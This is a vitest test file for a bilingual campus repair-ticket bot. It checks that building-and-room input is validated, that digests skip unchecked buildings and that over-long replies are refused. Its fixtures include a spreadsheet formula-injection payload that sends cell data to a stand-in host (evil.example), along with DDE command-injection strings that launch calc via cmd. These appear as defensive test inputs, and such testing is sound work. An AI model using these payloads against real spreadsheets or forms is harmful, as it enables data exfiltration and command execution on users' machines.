/**
 * Free text is bounded where it is stored and shown: the building-and-room step keeps only a
 * place, descriptions and answers have a maximum with a clear answer, and digests count only
 * buildings that are places, also for rows written before places were checked.
 */
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { openTestDatabase } from '../../../test/pg/app-store.js';
import { describe, expect, it } from 'vitest';
import { person, press, say, simulate, to } from '../../../test/harness.js';

const STAFF = 'group:staff-logistics';
const people = [
  person('li', '李华'),
  person('amy', 'Amy', { locale: 'en' }),
  person('wang', '王老师', { roles: ['staff'], department: 'logistics' }),
];
const tmpDb = () => join(mkdtempSync(join(tmpdir(), 'yizhan-bounds-')), 'y.db');
const query = (dbPath: string, sql: string) => openTestDatabase(dbPath, { readonly: true }).prepare(sql).all();
/** The formula of the report: 4,000 characters that a spreadsheet would run. */
const FORMULA = `=HYPERLINK("http://evil.example/?"&${'A1&'.repeat(1330)}A1,"点这里")`.slice(0, 4000);

describe('the building-and-room step', () => {
  it('asks again, in the student’s language, until the text is a place, and stores only that', async () => {
    const dbPath = tmpDb();
    const r = await simulate([
      ...people, say('li', '/repair'), press('li', '设施设备'), say('li', '热水器坏了，没有热水'),
      say('li', FORMULA), say('li', '=cmd|\' /C calc\'!A0'), say('li', '不知道，你们来看看吧'), say('li', '502'), say('li', '3号楼'),
      press('li', '跳过'), press('li', '实名提交'), press('li', '确认提交'), say('wang', '/digest', STAFF),
    ], { dbPath });
    expect(to(r, 'private:li').slice(3, 8).map((l) => l.text)).toEqual([
      '地点太长了（最多 40 个字）。请只写楼栋和房间号，例如：3号楼502、东区7栋312',
      '没认出这是哪里。请写楼栋和房间号，例如：3号楼502、东区7栋312；公共区域写楼名就行，例如：图书馆',
      '没认出这是哪里。请写楼栋和房间号，例如：3号楼502、东区7栋312；公共区域写楼名就行，例如：图书馆',
      '房间 502 在哪栋楼？例如：3号楼',
      '需要的话可以发一张照片（可选），或者点「跳过」。',
    ]);
    expect(query(dbPath, 'select building, room from tickets')).toEqual([{ building: '3号楼', room: '502' }]);
    for (const l of r.out) expect(l.text).not.toMatch(/HYPERLINK|calc/);
    expect(to(r, STAFF).at(-1)!.text).toContain('主要楼栋：3号楼 1');
  });

  it('answers in English too, and takes a named hall with its room', async () => {
    const dbPath = tmpDb();
    const r = await simulate([
      ...people, say('amy', 'the AC in my dorm is broken'), say('amy', '@SUM(1+1)*cmd'), say('amy', 'Maple Hall, room 215'), press('amy', 'Submit'),
    ], { dbPath });
    expect(to(r, 'private:amy')[1]!.text).toBe("I couldn't tell which place that is. Please write the building and room, for example: Building 7 room 215; for a shared space just the building, for example: Library");
    expect(to(r, 'private:amy')[2]!.text).toContain('Location: Maple Hall, room 215');
    expect(query(dbPath, 'select building, room from tickets')).toEqual([{ building: 'Maple Hall', room: '215' }]);
  });
});

describe('digests and cards', () => {
  it('leave out and clip a building written before places were checked', async () => {
    const dbPath = tmpDb();
    await simulate([...people, say('li', '3号楼502热水器坏了'), press('li', '确认提交')], { dbPath });
    const db = openTestDatabase(dbPath);
    db.prepare('update tickets set building = ?').run(FORMULA);
    db.close();
    const r = await simulate([say('wang', '/digest', STAFF), say('wang', '/status T-1', STAFF)], { dbPath });
    const [digest, status] = to(r, STAFF).map((l) => l.text);
    expect(digest).toMatch(/^📊 后勤保障处 日报/);
    expect(digest).not.toContain('主要楼栋');
    expect(status).toContain(`位置：${FORMULA.slice(0, 40)}… 502\n`);
  });
});

describe('answers to staff', () => {
  it('over one message’s length get a clear answer, are not relayed, and a shorter one is', async () => {
    const dbPath = tmpDb();
    const r = await simulate([
      ...people, say('li', '3号楼502热水器坏了'), press('li', '确认提交'), say('wang', '/reply T-1 什么时候方便上门？', STAFF),
      press('li', '回复 T-1'), say('li', '明'.repeat(5000)), say('li', '明天上午都在'),
    ], { dbPath });
    const li = to(r, 'private:li').map((l) => l.text);
    expect(li.slice(-2)).toEqual(['内容太长了（5000 字），最多 4096 字。请精简一下，或者分几条发送。', '已转达给 T-1 的处理老师。']);
    expect(to(r, STAFF).at(-1)!.text).toBe('💬 T-1 · 李华 回复：\n明天上午都在');
    expect(query(dbPath, "select text from ticket_events where type = 'student_reply'")).toEqual([{ text: '明天上午都在' }]);
  });

  it('and staff texts over one message’s length are refused the same way', async () => {
    const dbPath = tmpDb();
    const r = await simulate([...people, say('li', '3号楼502热水器坏了'), press('li', '确认提交'), say('wang', `/note T-1 ${'备'.repeat(5000)}`, STAFF)], { dbPath });
    expect(to(r, STAFF).at(-1)!.text).toBe('内容太长了（5000 字），最多 4096 字。请精简一下，或者分几条发送。');
    expect(query(dbPath, "select count(*) as n from ticket_events where type = 'note'")).toEqual([{ n: 0 }]);
  });
});
